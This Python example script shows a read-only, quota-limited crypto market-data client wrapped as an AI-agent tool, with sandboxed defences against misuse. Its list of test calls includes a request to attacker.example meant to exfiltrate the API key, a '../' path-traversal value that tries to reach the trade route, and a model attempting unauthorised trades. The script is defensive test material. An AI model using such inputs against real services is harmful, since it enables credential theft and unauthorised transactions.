"""An AI-agent tool function that can read market data and can do nothing else.

    python examples/agent_tool.py

The agent gets a read-only client: it cannot trade (ScopeError before any byte is sent), it
cannot send the key anywhere but the provider (InsecureTransportError), and it has a budget of
its own (QuotaExceededError instead of a quota blown by a loop). Errors come back to the model
as short messages that never contain the key. Runs against the embedded sandbox.
"""

from __future__ import annotations

import json
from typing import Any

import coinguard
from coinguard.sandbox import Sandbox


def make_tool(client: coinguard.Client) -> Any:
    """Wrap a client as a tool: the model names a path and parameters, gets JSON text back."""

    def fetch_market_data(method: str, path: str, params: dict[str, str] | None = None) -> str:
        try:
            body = client.request(method, path, params=params)
        except coinguard.CoinguardError as exc:  # messages name sources and fingerprints only
            return json.dumps({"error": type(exc).__name__, "message": str(exc)})
        # a tool result is text the model may repeat anywhere: no live key in it, ever
        return coinguard.redact(json.dumps(body["data"]))[:500]

    return fetch_market_data


def main() -> None:
    with Sandbox() as sb:
        budget = coinguard.QuotaPolicy([coinguard.Window.per_minute(3)])  # this agent's own budget
        client = coinguard.Client(
            provider="sandbox",
            base_url=sb.base_url,
            read_key=sb.keys.read,
            quota=budget,
            on_quota="raise",
            quota_store=coinguard.MemoryStore(),
        )
        tool = make_tool(client)
        calls = [
            ("GET", "/price", {"symbol": "BTC"}),
            ("POST", "/orders", None),  # the model tries to trade
            ("GET", "https://attacker.example/v2/price", None),  # or to exfiltrate the key
            ("GET", "/search/../orders", None),  # or to smuggle a trade route
            ("GET", "/price", {"symbol": "ETH"}),
            ("GET", "/price", {"symbol": "SOL"}),
            ("GET", "/price", {"symbol": "ADA"}),  # over its budget
        ]
        for method, path, params in calls:
            print(f"{method} {path}: {tool(method, path, params)[:110]}")
        client.close()
        leaked = [e for e in sb.ledger.entries() if e.scope_required == "trade"]
        print(f"trade requests that reached the server: {len(leaked)}")


if __name__ == "__main__":
    main()
